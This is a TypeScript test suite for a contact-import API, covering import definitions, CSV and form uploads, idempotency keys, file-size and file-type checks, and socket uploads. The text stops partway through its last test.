import assert from 'node:assert/strict'
import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { readdir, stat } from 'node:fs/promises'
import { type ClientRequest, request } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { before, suite, test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { runImport } from '../../../src/features/imports/run/run-import.ts'
import { lockImportRun } from '../../../src/features/imports/run/run-lock.ts'
import { IMPORT_FILES, noSharedData, SHARED_DATA } from '../../support/files/sample-files.ts'
import { type Answer, startHarness, type TestAccount } from '../../support/harness.ts'
import { eventually } from '../../support/wait.ts'

const { app, call, clock, context, own, other, dataDir, makeAccount, makeKey } = await startHarness()

const IMPORT_TYPE = 'application/vnd.mperf.v8.import.v1+json'
const CSV = { 'content-type': 'text/csv' }
/** Asks for the executions themselves, where old clients are answered the last state. */
const LISTED = { accept: 'application/json' }
const TWO = 'Email;Name\nann@example.org;Ann\nbob@example.org;Bob\n'

interface Fields {
  [name: string]: number
}

/** An account with the columns of the sample files. */
async function sampleAccount(code: string): Promise<TestAccount & { fields: Fields }> {
  const made = await makeAccount(code)
  const post = async (url: string, body: object) => (await call('POST', url, { body, key: made.key })).body
  const list = async (name: string, labels: string[]) =>
    (await post('/valueLists', { name, values: labels.map((value) => ({ value })) })).id
  const title = await list('Title', ['Mr', 'Ms'])
  const tastes = await list('Tastes', ['Wine', 'Books', 'Travel', 'Sport', 'Garden', 'Cinéma'])
  const fields: Fields = { Email: (await call('GET', '/fields', { key: made.key })).body[0].id }
  const kinds: [string, string, object?][] = [
    ['Title', 'singleSelectList', { valueListId: title }],
    ['First name', 'textField'],
    ['Last name', 'textArea'],
    ['Mobile', 'phone'],
    ['Birth date', 'date'],
    ['Country', 'textField'],
    ['Language', 'textField'],
    ['Tastes', 'multipleSelectList', { valueListId: tastes }],
    ['Spent', 'numeric'],
    ['Opt-in', 'textField'],
  ]
  for (const [name, type, more] of kinds) fields[name] = (await post('/fields', { name, type, ...more })).id
  return { ...made, fields }
}

let named = 0
async function makeImport(more: object = {}, key = own.key): Promise<number> {
  const { status, body, text } = await call('POST', '/imports', { body: { name: `Import ${++named}`, ...more }, key })
  assert.equal(status, 200, text)
  return body.id
}

async function makeSegment(key = own.key, type = 'static'): Promise<number> {
  return (await call('POST', '/segments', { body: { type, name: `Segment ${++named}` }, key })).body.id
}

/** Starts a run on a CSV text. */
async function start(id: number, csv: string | Buffer, key = own.key): Promise<number> {
  const { status, body, text } = await call('POST', `/imports/${id}/executions`, { body: csv, headers: CSV, key })
  assert.equal(status, 200, text)
  return body.id
}

/** Runs a CSV text to its end and gives the execution. */
async function run(id: number, csv: string | Buffer, key = own.key, batchLines?: number): Promise<Answer['body']> {
  const execution = await start(id, csv, key)
  await runImport(context, { execution, ...(batchLines && { batchLines }) })
  return (await call('GET', `/imports/${id}/executions/${execution}`, { key })).body
}

async function rejects(id: number, execution: number, key = own.key): Promise<string[]> {
  const { text } = await call('GET', `/imports/${id}/executions/${execution}/rejects`, { key })
  return text.split('\n').slice(1, -1)
}

async function contact(unicity: string, key = own.key): Promise<Answer['body']> {
  return (await call('GET', `/targets?unicity=${encodeURIComponent(unicity)}`, { key })).body
}

async function members(segment: number, key = own.key): Promise<number> {
  return (await call('GET', `/segments/${segment}/targets`, { key })).body.length
}

const counts = ({ created, updated, rejected, duplicates, skipped }: Answer['body']) => ({
  created,
  updated,
  rejected,
  duplicates,
  skipped,
})
/** Lines that a run commits together, where a test is about batches. */
const BATCH = 100
const NONE = { created: 0, updated: 0, rejected: 0, duplicates: 0, skipped: 0 }

/** The field `Name` of the own account. */
const { body: nameField } = await call('POST', '/fields', { body: { type: 'textField', name: 'Name' } })

async function nameOf(unicity: string): Promise<string | null> {
  return (await contact(unicity)).fields[nameField.id]
}

suite('imports › definition', () => {
  test('requires only a name, and is returned whole', async () => {
    clock.set('2026-03-01T06:00:00Z')
    const { status, body } = await call('POST', '/imports', { body: { name: ' Daily ' } })
    assert.equal(status, 200)
    assert.deepEqual(body, {
      id: body.id,
      name: 'Daily',
      creationDate: '2026-03-01T06:00:00.000Z',
      updateDate: null,
      binding: null,
      features: [],
      source: {
        type: 'file',
        id: null,
        creationDate: '2026-03-01T06:00:00.000Z',
        updateDate: null,
        filename: null,
      },
    })
    assert.deepEqual((await call('GET', `/imports/${body.id}`)).body, body)
    assert.deepEqual(
      (await call('GET', '/imports')).body.find((one: { id: number }) => one.id === body.id),
      body,
    )
  })

  test('is returned with the import media type when requested', async () => {
    const answer = await call('POST', '/imports', { body: { name: 'Typed' }, headers: { accept: IMPORT_TYPE } })
    assert.equal(answer.headers['content-type'], IMPORT_TYPE)
    assert.equal(answer.body.name, 'Typed')
  })

  test('replaces all features at once and keeps omitted members', async () => {
    const segment = await makeSegment()
    const id = await makeImport({
      features: [
        { type: 'segmentation', segmentId: segment, emptyExistingSegment: true },
        { type: 'redList', destination: { email: true } },
        { type: 'report', sendFinalReport: true },
      ],
    })
    assert.deepEqual((await call('GET', `/imports/${id}`)).body.features, [
      { type: 'segmentation', segmentId: segment, emptyExisitingSegment: true },
      { type: 'redList', destination: { mail: true, sms: false } },
      { type: 'report', sendFinalReport: true, sendErrorReport: false, contactGuids: [], groupIds: [] },
    ])
    const { body } = await call('PUT', `/imports/${id}`, { body: { features: [{ type: 'duplicate' }] } })
    assert.deepEqual(body.features, [{ type: 'duplicate', rules: { first: true } }])
    assert.equal(body.name, `Import ${named}`)
    assert.equal((await call('DELETE', `/segments/${segment}`)).status, 204)
  })

  test('prevents deletion of the segment that it fills', async () => {
    const segment = await makeSegment()
    const id = await makeImport({ features: [{ type: 'segmentation', segmentId: segment }] })
    const refused = await call('DELETE', `/segments/${segment}`)
    assert.equal(refused.status, 409)
    assert.deepEqual(refused.body.links, [{ type: 'import', id, name: `Import ${named}` }])
  })

  const bad: [name: string, body: object, status: number, pointer?: string][] = [
    ['a missing name', {}, 400, '/name'],
    ['a feature twice', { name: 'x', features: [{ type: 'database' }, { type: 'database' }] }, 400, '/features/1/type'],
    [
      'two duplicate rules',
      { name: 'x', features: [{ type: 'duplicate', rules: { first: true, last: true } }] },
      400,
      '/features/0/rules',
    ],
    [
      'an unknown segment',
      { name: 'x', features: [{ type: 'database' }, { type: 'segmentation', segmentId: 999_999 }] },
      404,
      '/features/1/segmentId',
    ],
    ['an unknown binding', { name: 'x', binding: 999_999 }, 404],
    [
      'an unknown country',
      { name: 'x', features: [{ type: 'normalization', fields: { 1: ['XXX'] } }] },
      400,
      '/features/0/fields/1/0',
    ],
    [
      'a field that is not a phone number',
      { name: 'x', features: [{ type: 'normalization', fields: { 1: ['FRA'] } }] },
      400,
      '/features/0/fields/1',
    ],
    [
      'a folder outside the drop place',
      { name: 'x', source: { type: 'ftp', folder: '../secret' } },
      400,
      '/source/folder',
    ],
    [
      'a file name that is a path',
      { name: 'x', source: { type: 'ftp', templateFilename: '../*' } },
      400,
      '/source/templateFilename',
    ],
    [
      'a segment beyond int32',
      { name: 'x', features: [{ type: 'segmentation', segmentId: 2 ** 31 }] },
      400,
      '/features/0/segmentId',
    ],
    ['a binding beyond int32', { name: 'x', binding: 2 ** 31 }, 400, '/binding'],
    [
      'a field beyond int32',
      { name: 'x', features: [{ type: 'normalization', fields: { 99999999999: ['FRA'] } }] },
      400,
      '/features/0/fields/99999999999',
    ],
    [
      'countries for an invalid field id',
      { name: 'x', features: [{ type: 'normalization', fields: { 'a/b': ['FRA'] } }] },
      400,
      '/features/0/fields/a~1b',
    ],
    ['an unknown scheduler', { name: 'x', scheduler: { type: 'sometimes' } }, 400, '/scheduler/type'],
  ]
  for (const [name, body, status, pointer] of bad) {
    test(`refuses ${name}`, async () => {
      const before = (await call('GET', '/imports')).body.length
      const answer = await call('POST', '/imports', { body })
      assert.equal(answer.status, status, answer.text)
      if (pointer) assert.equal(answer.body.errors[0].pointer, pointer)
      assert.equal((await call('GET', '/imports')).body.length, before)
    })
  }

  test('refuses an unknown feature and lists the known ones', async () => {
    const { status, body } = await call('POST', '/imports', { body: { name: 'x', features: [{ type: 'magic' }] } })
    assert.equal(status, 400)
    assert.equal(body.errors[0].pointer, '/features/0/type')
    for (const type of ['segmentation', 'redList', 'duplicate', 'report', 'database', 'normalization']) {
      assert.match(body.errors[0].detail, new RegExp(`"${type}"`))
    }
  })

  test('accepts its file as text or flat maps, on creation and on change', async () => {
    const source = { type: 'file', filename: 'people.csv', data: 'Email;Name\nalong1@example.org;A\n' }
    const { body: made } = await call('POST', '/imports', { body: { name: 'Along', source } })
    assert.match(made.source.filename, /^[0-9A-F]{10}_people\.csv$/)
    assert.notEqual(made.source.id, null)
    const url = `/imports/${made.id}`
    const first = await call('POST', `${url}/executions`)
    await runImport(context, { execution: first.body.id })
    const data = [{ Email: 'along2@example.org', Name: 'B' }]
    const { body: changed } = await call('PUT', url, { body: { source: { data } } })
    assert.ok(changed.source.id > made.source.id)
    const second = await call('POST', `${url}/executions`)
    await runImport(context, { execution: second.body.id })
    assert.deepEqual([await nameOf('along1@example.org'), await nameOf('along2@example.org')], ['A', 'B'])
  })

  test('keeps the file name given with flat maps', async () => {
    const source = { type: 'file', filename: 'members.csv', data: [{ Email: 'named@example.org' }] }
    const { body: made } = await call('POST', '/imports', { body: { name: 'Named', source } })
    assert.match(made.source.filename, /^[0-9A-F]{10}_members\.csv$/)
    const { filename: _, ...nameless } = source
    const { body: changed } = await call('PUT', `/imports/${made.id}`, { body: { source: nameless } })
    assert.match(changed.source.filename, /^[0-9A-F]{10}_import\.csv$/)
    const { body: uploaded } = await call('PUT', `/imports/${made.id}/source`, { body: source })
    assert.match(uploaded.filename, /^[0-9A-F]{10}_members\.csv$/)
    const refused = await call('PUT', `/imports/${made.id}/source`, { body: { ...source, filename: 'members.exe' } })
    assert.equal(refused.status, 415)
  })

  test('an empty scheduler creates none and leaves the existing one', async () => {
    const id = await makeImport({ scheduler: { id: 79 } })
    assert.equal((await call('GET', `/imports/${id}`)).body.scheduler, undefined)
    const scheduler = { type: 'scheduled', startDate: '2030-01-01T00:00:00.000Z' }
    const { body } = await call('PUT', `/imports/${id}`, { body: { scheduler } })
    assert.equal(body.scheduler.startDate, scheduler.startDate)
    for (const nothing of [{ id: 79 }, {}, { type: null, enabled: false, name: 'x' }]) {
      const answer = await call('PUT', `/imports/${id}`, { body: { scheduler: nothing } })
      assert.deepEqual([answer.status, answer.body.scheduler], [200, body.scheduler])
    }
    const partial = await call('PUT', `/imports/${id}`, { body: { scheduler: { frequency: {} } } })
    assert.deepEqual([partial.status, partial.body.errors[0].pointer], [400, '/scheduler/type'])
  })

  test('accepts its own answer back', async () => {
    const features = [{ type: 'database' }, { type: 'duplicate', rules: { last: true } }]
    const id = await makeImport({ features, source: { type: 'ftp', folder: 'in', templateFilename: 'a*.csv' } })
    const { body } = await call('GET', `/imports/${id}`)
    const answer = await call('PUT', `/imports/${id}`, { body })
    assert.equal(answer.status, 200, answer.text)
    assert.deepEqual({ ...answer.body, updateDate: null }, body)
  })

  test('reports unknown members under strict handling, even where a file is accepted', async () => {
    const id = await makeImport()
    const headers = { prefer: 'handling=strict' }
    for (const [method, url] of [
      ['PUT', `/imports/${id}`],
      ['POST', `/imports/${id}/executions`],
      ['PUT', `/imports/${id}/source`],
    ] as const) {
      const answer = await call(method, url, { body: { nonsense: 1 }, headers })
      assert.deepEqual([answer.status, answer.body.errors[0].pointer], [400, '/nonsense'], `${method} ${url}`)
    }
  })

  test('a read-only key cannot start, change or delete anything', async () => {
    const id = await makeImport()
    const key = await makeKey(own.account, ['read'])
    const execution = await start(id, TWO)
    const requests: [string, string][] = [
      ['POST', '/imports'],
      ['PUT', `/imports/${id}`],
      ['DELETE', `/imports/${id}`],
      ['PUT', `/imports/${id}/source`],
      ['POST', `/imports/${id}/executions`],
      ['DELETE', `/imports/${id}/executions/${execution}`],
      ['POST', '/importFormats'],
    ]
    for (const [method, url] of requests) {
      const answer = await call(method, url, { ...(method !== 'DELETE' && { body: { name: 'x' } }), key })
      assert.equal(answer.status, 403, `${method} ${url}: ${answer.text}`)
    }
    assert.equal((await call('GET', `/imports/${id}/executions/${execution}`, { key })).body.state, 0)
    await runImport(context, { execution })
  })

  test('refuses a dynamic segment and a segment of another account', async () => {
    const feature = (segmentId: number) => ({ name: 'x', features: [{ type: 'segmentation', segmentId }] })
    const dynamic = await makeSegment(own.key, 'dynamic')
    assert.equal((await call('POST', '/imports', { body: feature(dynamic) })).status, 409)
    const foreign = await makeSegment(other.key)
    assert.equal((await call('POST', '/imports', { body: feature(foreign) })).status, 404)
  })

  test('stores a scheduler and a drop place, and removes the scheduler with null', async () => {
    const id = await makeImport({
      source: { type: 'ftp' },
      scheduler: {
        type: 'Periodic',
        frequency: { occurs: { type: 'daily' }, periodicity: { type: 'once', value: { hour: 6 } } },
      },
    })
    const { body } = await call('GET', `/imports/${id}`)
    assert.equal(body.source.folder, '{id} - {name}')
    assert.equal(body.source.templateFilename, '*')
    assert.equal(body.scheduler.type, 'periodic')
    assert.equal(body.scheduler.enabled, true)
    assert.equal((await call('PUT', `/imports/${id}`, { body: { scheduler: null } })).body.scheduler, undefined)
  })

  test('is deleted with its executions and files, and its contacts stay', async () => {
    const id = await makeImport()
    await run(id, 'Email\nstays@example.org\n')
    assert.equal((await readdir(join(dataDir, 'imports', String(own.account), String(id)))).length, 1)
    assert.equal((await call('DELETE', `/imports/${id}`)).status, 204)
    assert.equal((await call('GET', `/imports/${id}`)).status, 404)
    assert.equal((await contact('stays@example.org')).fields[nameField.id], null)
    await assert.rejects(readdir(join(dataDir, 'imports', String(own.account), String(id))))
  })
})

suite('imports › start of an execution', () => {
  const multipart = (name: string, content: string) =>
    [
      '--XyZ',
      'Content-Disposition: form-data; name="note"',
      '',
      'not this one',
      '--XyZ',
      `Content-Disposition: form-data; name="${name}"; filename="a b.csv"`,
      'Content-Type: text/csv',
      '',
      content,
      '--XyZ--',
      '',
    ].join('\r\n')
  const octets = { 'content-type': 'application/octet-stream' }
  const forms: [name: string, (csv: string) => { body: string | object; headers: Record<string, string> }][] = [
    ['raw text', (csv) => ({ body: csv, headers: CSV })],
    [
      'octets',
      (csv) => ({ body: csv, headers: { ...octets, 'content-disposition': 'attachment; filename="a b.csv"' } }),
    ],
    [
      'a form with the part "data"',
      (csv) => ({ body: multipart('data', csv), headers: { 'content-type': 'multipart/form-data; boundary=XyZ' } }),
    ],
    [
      'a form with any file',
      (csv) => ({ body: multipart('upload', csv), headers: { 'content-type': 'multipart/form-data; boundary="XyZ"' } }),
    ],
    ['a form declared as octets', (csv) => ({ body: multipart('data', csv), headers: octets })],
    [
      'octets holding a JSON object with the text',
      (csv) => ({ body: JSON.stringify({ name: 'a b.csv', data: csv }), headers: octets }),
    ],
    [
      'a definition with the text',
      (csv) => ({
        body: { source: { type: 'file', filename: 'a b.csv', data: csv } },
        headers: { 'content-type': 'application/json' },
      }),
    ],
    ['octets holding a definition', (csv) => ({ body: JSON.stringify({ source: { data: csv } }), headers: octets })],
  ]
  for (const [index, [name, form]] of forms.entries()) {
    test(`accepts ${name}`, async () => {
      const id = await makeImport()
      const csv = `Email;Name\nann${index}@example.org;Ann\nbob${index}@example.org;Bob\n`
      const { body, headers } = form(csv)
      const { status, text, body: started } = await call('POST', `/imports/${id}/executions`, { body, headers })
      assert.equal(status, 200, text)
      assert.equal(started.state, 0)
      assert.match(started.source.filename, /^[0-9A-F]{10}_(a b|import)\.csv$/)
      await runImport(context, { execution: started.id })
      const { body: executions } = await call('GET', `/imports/${id}/executions`, { headers: LISTED })
      assert.equal(executions.length, 1)
      assert.equal(executions[0].state, 1)
      assert.deepEqual(counts(executions[0]), { ...NONE, created: 2 })
      assert.deepEqual(executions[0].progress, { bytes: csv.length, lines: 2, total: csv.length })
      assert.equal(await nameOf(`ann${index}@example.org`), 'Ann')
      assert.equal(await nameOf(`bob${index}@example.org`), 'Bob')
      const short = await call('GET', `/imports/${id}/executions`, { headers: { accept: IMPORT_TYPE } })
      assert.deepEqual(short.body, { state: 1 })
      assert.equal(short.headers['content-type'], IMPORT_TYPE)
    })
  }

  test('runs on the last file without a body, and stores a given definition first', async () => {
    const id = await makeImport()
    assert.equal((await call('POST', `/imports/${id}/executions`)).status, 409)
    const put = await call('PUT', `/imports/${id}/source`, { body: TWO, headers: CSV })
    assert.equal(put.status, 200, put.text)
    assert.deepEqual(Object.keys(put.body).sort(), ['creationDate', 'filename', 'id', 'type', 'updateDate'])
    const first = await call('POST', `/imports/${id}/executions`)
    assert.equal(first.status, 200, first.text)
    await runImport(context, { execution: first.body.id })
    const second = await call('POST', `/imports/${id}/executions`, {
      body: { features: [{ type: 'database', updateExisting: false }] },
    })
    await runImport(context, { execution: second.body.id })
    const { body } = await call('GET', `/imports/${id}/executions`, { headers: LISTED })
    assert.deepEqual(
      body.map(({ id: one }: { id: number }) => one),
      [second.body.id, first.body.id],
    )
    assert.equal(body[0].skipped, 2)
    assert.deepEqual((await call('GET', `/imports/${id}`)).body.features, [
      { type: 'database', updateExisting: false, crushData: false },
    ])
  })

  test('reads contacts given as flat maps, by field id or name', async () => {
    const id = await makeImport()
    const data = [{ Email: 'map1@example.org', [nameField.id]: 'A "quoted"; one' }, { email: 'map2@example.org' }]
    const { body, text, status } = await call('POST', `/imports/${id}/executions`, { body: { source: { data } } })
    assert.equal(status, 200, text)
    await runImport(context, { execution: body.id })
    assert.equal(await nameOf('map1@example.org'), 'A "quoted"; one')
    assert.equal(await nameOf('map2@example.org'), null)
    const bad = await call('POST', `/imports/${id}/executions`, { body: { source: { data: [{ Nope: 1 }] } } })
    assert.equal(bad.status, 400)
    assert.equal(bad.body.errors[0].pointer, '/source/data/0/Nope')
    const uploaded = await call('PUT', `/imports/${id}/source`, { body: { data: [{ Nope: 1 }] } })
    assert.equal(uploaded.body.errors[0].pointer, '/data/0/Nope')
  })

  test('reads the numbers of flat maps with a decimal point, whatever the setting of the account', async () => {
    const { id: spent } = (await call('POST', '/fields', { body: { name: 'Mapped spent', type: 'numeric' } })).body
    await call('PUT', '/settings/contacts', { body: { decimalMark: 'comma' } })
    const id = await makeImport()
    const data = [{ Email: 'maps@example.org', [spent]: 1.234 }]
    const { body } = await call('POST', `/imports/${id}/executions`, { body: { source: { data } } })
    await runImport(context, { execution: body.id })
    assert.equal((await call('GET', '/targets?unicity=maps@example.org')).body.fields[spent], 1.234)
    await call('PUT', '/settings/contacts', { body: { decimalMark: 'point' } })
  })

  test('returns the last state unless the list is requested by media type', async () => {
    const id = await makeImport()
    const url = `/imports/${id}/executions`
    const states = [undefined, '*/*', IMPORT_TYPE, 'text/html, */*;q=0.8', `${IMPORT_TYPE}, application/json`]
    const lists = ['application/json', 'Application/JSON; charset=utf-8, */*', 'application/x-ndjson']
    const ask = (accept: string | undefined) => call('GET', url, { headers: accept === undefined ? {} : { accept } })
    for (const accept of states) assert.equal((await ask(accept)).status, 404, String(accept))
    for (const accept of lists) assert.deepEqual((await ask(accept)).body, [], accept)
    const first = await run(id, TWO)
    const second = await start(id, 'no header')
    for (const accept of states) {
      const { body, headers } = await ask(accept)
      const type = accept?.includes(IMPORT_TYPE) ? IMPORT_TYPE : 'application/json; charset=utf-8'
      assert.deepEqual([body, headers['content-type']], [{ state: 0 }, type], String(accept))
    }
    await runImport(context, { execution: second })
    assert.deepEqual((await ask(undefined)).body, { state: 2 })
    const { body: last } = await call('GET', `${url}/${second}`)
    for (const accept of lists) assert.deepEqual((await ask(accept)).body, [last, first], accept)
    assert.equal((await call('GET', url, { key: other.key })).status, 404)
  })

  test('shows the definition that the import had when the run began', async () => {
    const binds = [{ columnIndex: 0, fieldId: 1 }]
    const { body: format } = await call('POST', '/importFormats', { body: { name: 'Shown', separator: 59, binds } })
    const id = await makeImport({ binding: format.identifier.guid, features: [{ type: 'database' }] })
    const execution = await run(id, 'Email\nshown@example.org\n')
    const { body: definition } = await call('GET', `/imports/${id}`)
    assert.deepEqual(execution.content, { features: definition.features, bindings: format, source: definition.source })
    assert.deepEqual(execution.source, definition.source)
    assert.notEqual(definition.source.updateDate, null)
    await call('PUT', `/importFormats/${format.identifier.guid}`, { body: { name: 'Renamed since' } })
    await call('PUT', `/imports/${id}/source`, { body: TWO, headers: CSV })
    assert.deepEqual((await call('GET', `/imports/${id}/executions/${execution.id}`)).body, execution)
  })

  test('answers after the preferred wait while the run continues', async () => {
    const id = await makeImport()
    const headers = { ...CSV, prefer: 'wait=1' }
    const { status, body } = await call('POST', `/imports/${id}/executions`, { body: TWO, headers })
    assert.deepEqual([status, body.state], [200, 0])
    await runImport(context, { execution: body.id })
  })

  test('answers when the run ends if the client prefers to wait', async () => {
    const id = await makeImport()
    const waiting = call('POST', `/imports/${id}/executions`, { body: TWO, headers: { ...CSV, prefer: 'wait=30' } })
    const started = await eventually(
      async () => (await call('GET', `/imports/${id}/executions`, { headers: LISTED })).body[0],
    )
    await runImport(context, { execution: started.id })
    const { body } = await waiting
    assert.equal(body.id, started.id)
    assert.equal(body.state, 1)
  })
})

/** Starts a run under an Idempotency-Key. */
function keyed(id: number, key: string, body: string | object, headers: Record<string, string> = CSV): Promise<Answer> {
  const type = typeof body === 'string' ? headers : {}
  return call('POST', `/imports/${id}/executions`, { body, headers: { ...type, 'idempotency-key': key } })
}

const problemOf = ({ status, body }: Answer) => [status, body.type]

/** The file of an upload under way. */
async function partOf(id: number): Promise<{ size: number }> {
  const folder = join(dataDir, 'imports', String(own.account), String(id))
  const part = (await readdir(folder).catch(() => [])).find((name) => name.endsWith('.part'))
  return part === undefined ? { size: 0 } : stat(join(folder, part))
}

suite('imports › Idempotency-Key of an upload', () => {
  const REUSED = [422, 'urn:stentor:problem:idempotency-key-reused']
  const executions = async (id: number) =>
    (await call('GET', `/imports/${id}/executions`, { headers: LISTED })).body.length

  test('repeated bytes replay the answer and are imported once', async () => {
    const id = await makeImport()
    const first = await keyed(id, 'same', TWO)
    await runImport(context, { execution: first.body.id })
    const second = await keyed(id, 'same', TWO)
    assert.deepEqual([second.status, second.headers['idempotent-replayed']], [200, 'true'])
    assert.deepEqual(second.body, first.body)
    assert.equal(await executions(id), 1)
  })

  test('a reused key is refused for other bytes, another length or another import', async () => {
    const [id, elsewhere] = [await makeImport(), await makeImport()]
    const first = await keyed(id, 'reused', TWO)
    await runImport(context, { execution: first.body.id })
    assert.deepEqual(problemOf(await keyed(id, 'reused', TWO.replace('ann@', 'amy@'))), REUSED)
    assert.deepEqual(problemOf(await keyed(id, 'reused', `${TWO}x`)), REUSED)
    assert.deepEqual(problemOf(await keyed(id, 'reused', {})), REUSED)
    assert.deepEqual(problemOf(await keyed(elsewhere, 'reused', TWO)), REUSED)
    assert.deepEqual([await executions(id), await executions(elsewhere)], [1, 0])
    assert.equal((await keyed(id, 'reused', TWO)).headers['idempotent-replayed'], 'true')
  })

  test('a form is compared to its end, including what follows the file', async () => {
    const id = await makeImport()
    const headers = { 'content-type': 'multipart/form-data; boundary=b' }
    const form = (note: string, end: string) =>
      `${['data"; filename="x.csv', 'note']
        .map((part, n) => `--b\r\nContent-Disposition: form-data; name="${part}"\r\n\r\n${n === 0 ? TWO : note}\r\n`)
        .join('')}--b--${end}`
    const first = await keyed(id, 'form', form('one', 'end'), headers)
    assert.equal(first.status, 200, first.text)
    await runImport(context, { execution: first.body.id })
    assert.equal((await keyed(id, 'form', form('one', 'end'), headers)).headers['idempotent-replayed'], 'true')
    assert.deepEqual(problemOf(await keyed(id, 'form', form('two', 'end'), headers)), REUSED)
    assert.deepEqual(problemOf(await keyed(id, 'form', form('one', 'eod'), headers)), REUSED)
    assert.equal(await executions(id), 1)
  })

  test('a definition is compared as well', async () => {
    const id = await makeImport()
    const first = await keyed(id, 'definition', { source: { data: TWO } })
    assert.equal(first.status, 200, first.text)
    await runImport(context, { execution: first.body.id })
    assert.deepEqual((await keyed(id, 'definition', { source: { data: TWO } })).body, first.body)
    assert.deepEqual(problemOf(await keyed(id, 'definition', { source: { data: `${TWO}\n` } })), REUSED)
  })

  test('a refusal before reading does not keep the key, a refusal after reading does', async () => {
    const id = await makeImport()
    const execution = await start(id, TWO)
    assert.deepEqual(problemOf(await keyed(id, 'early', TWO)), [409, 'urn:stentor:problem:import-running'])
    await runImport(context, { execution })
    const late = await keyed(id, 'early', TWO)
    assert.deepEqual([late.status, late.headers['idempotent-replayed']], [200, undefined])
    await runImport(context, { execution: late.body.id })
    const empty = await keyed(id, 'empty', '')
    const again = await keyed(id, 'empty', '')
    assert.deepEqual([empty.status, again.status, again.headers['idempotent-replayed']], [400, 400, 'true'])
    assert.deepEqual(problemOf(await keyed(id, 'empty', TWO)), REUSED)
  })
})

suite('imports › files', () => {
  async function upload(body: string | Buffer, headers: Record<string, string> = CSV): Promise<Answer> {
    return call('PUT', `/imports/${await makeImport()}/source`, { body, headers })
  }

  test('refuses an empty file, an unknown extension or type, and a broken archive', async () => {
    const named = (name: string) => ({ ...CSV, 'content-disposition': `attachment; filename="${name}"` })
    assert.equal((await upload('')).status, 400)
    assert.equal((await upload(TWO, named('people.pdf'))).status, 415)
    assert.equal((await upload(TWO, { 'content-type': 'image/png' })).status, 415)
    assert.equal((await upload(TWO, named('people.zip'))).status, 400)
    assert.equal((await upload(gzipSync(TWO).subarray(0, 20), named('people.csv.gz'))).status, 400)
    assert.equal((await upload(Buffer.from('PK\x03\x04 no archive'))).status, 400)
    assert.equal((await upload('{"no": "file"}', { 'content-type': 'application/json' })).status, 400)
    assert.equal(
      (await upload(Buffer.from('{"data":"\xff"}', 'latin1'), { 'content-type': 'application/json' })).status,
      400,
    )
  })

  test('never uses a file name as a path', async () => {
    const { body } = await upload(TWO, { ...CSV, 'content-disposition': 'attachment; filename="../../up.csv"' })
    assert.match(body.filename, /^[0-9A-F]{10}_up\.csv$/)
  })

  test('refuses a file over importMaxBytes, announced or not, and keeps the previous source', async () => {
    const { key } = await makeAccount('TINY001')
    await call('PUT', '/settings/contacts', { body: { importMaxBytes: 100 }, key })
    const id = await makeImport({}, key)
    const kept = await call('PUT', `/imports/${id}/source`, { body: TWO, headers: CSV, key })
    assert.equal(kept.status, 200)
    const large = TWO.repeat(10)
    assert.equal((await call('PUT', `/imports/${id}/source`, { body: large, headers: CSV, key })).status, 413)
    const form = `--b\r\nContent-Disposition: form-data; name="data"; filename="x.csv"\r\n\r\n${large}\r\n--b--\r\n`
    const headers = { 'content-type': 'multipart/form-data; boundary=b' }
    assert.equal((await call('PUT', `/imports/${id}/source`, { body: form, headers, key })).status, 413)
    assert.equal((await call('GET', `/imports/${id}`, { key })).body.source.filename, kept.body.filename)
  })

  suite('uploads over a socket', () => {
    before(() => app.listen({ host: '127.0.0.1', port: 0 }))

    /** A request on its way, whose body is still to be written. */
    function sending(method: string, path: string, headers: Record<string, string | number>, key: string) {
      const { port } = app.server.address() as AddressInfo
      const options = { host: '127.0.0.1', port, method, path }
      return request({ ...options, headers: { 'x-key': key, ...CSV, ...headers } })
    }

    function put(id: number, headers: Record<string, string | number>, key = own.key): ClientRequest {
      return sending('PUT', `/imports/${id}/source`, headers, key)
    }

    /** Waits until so many files are in the upload directory of an import. */
    async function holds(id: number, files: number): Promise<void> {
      const folder = join(dataDir, 'imports', String(own.account), String(id))
      await eventually(async () => (await readdir(folder).catch(() => [])).length === files)
    }

    test('answers 100 Continue to a client that waits for it', async () => {
      const id = await makeImport()
      const upload = put(id, { expect: '100-continue', 'content-length': TWO.length })
      upload.flushHeaders()
      await once(upload, 'continue')
      upload.end(TWO)
      const [answer] = await once(upload, 'response')
      assert.equal(answer.statusCode, 200)
      answer.resume()
    })

    test('refuses an upload announced as too large before any of it arrives', async () => {
      const { key } = await makeAccount('EARL001')
      await call('PUT', '/settings/contacts', { body: { importMaxBytes: 100 }, key })
      const upload = put(await makeImport({}, key), { 'content-length': 101 }, key)
      upload.on('error', () => undefined)
      upload.flushHeaders()
      const [answer] = await once(upload, 'response')
      assert.equal(answer.statusCode, 413)
      upload.destroy()
    })

    test('keeps the previous file and no part of the new one when a connection breaks during an upload', async () => {
      const id = await makeImport()
      const kept = await call('PUT', `/imports/${id}/source`, { body: TWO, headers: CSV })
      const upload = put(id, { 'content-length': 1_000_000 })
      upload.on('error', () => undefined)
      upload.write('Email\n'.padEnd(100_000, 'x'))
      await holds(id, 2)
      upload.destroy()
      await holds(id, 1)
      assert.equal((await call('GET', `/imports/${id}`)).body.source.filename, kept.body.filename)
    })

    /** An upload for a run with an Idempotency-Key, of which nothing has come yet. */
    function post(id: number, key: string, headers: Record<string, string | number> = {}): ClientRequest {
      const upload = sending('POST', `/imports/${id}/executions`, { 'idempotency-key': key, ...headers }, own.key)
      upload.on('error', () => undefined)
      return upload
    }

    test('an interrupted upload leaves its Idempotency-Key to the next one', async () => {
      const id = await makeImport()
      const upload = post(id, 'broken-off', { 'content-length': 200_000 })
      upload.write('Email\n'.padEnd(100_000, 'x'))
      await holds(id, 1)
      upload.destroy()
      await holds(id, 0)
      // Until the broken one has ended it is the one that runs.
      const answer = await eventually(async () => {
        const given = await keyed(id, 'broken-off', TWO)
        return given.status !== 409 && given
      })
      assert.deepEqual([answer.status, answer.headers['idempotent-replayed']], [200, undefined])
      await runImport(context, { execution: answer.body.id })
    })

    test('a key is held while its upload lasts, and then replays its answer', async () => {
      const id = await makeImport()
      const upload = post(id, 'lasting')
      const wait = (bytes: number) => eventually(async () => (await partOf(id)).size >= bytes)
      const lines = ['Email;Name\n']
      upload.write(lines[0]!)
      for (let minutes = 0; minutes < 30; minutes += 6) {
        await wait(lines.join('').length)
        clock.advance(6 * 60_000)
        lines.push(`minute${minutes}@lasting.example;x\n`)
        upload.write(lines.at(-1)!)
        // What is read now keeps the key for ten more minutes.
        await wait(lines.join('').length)
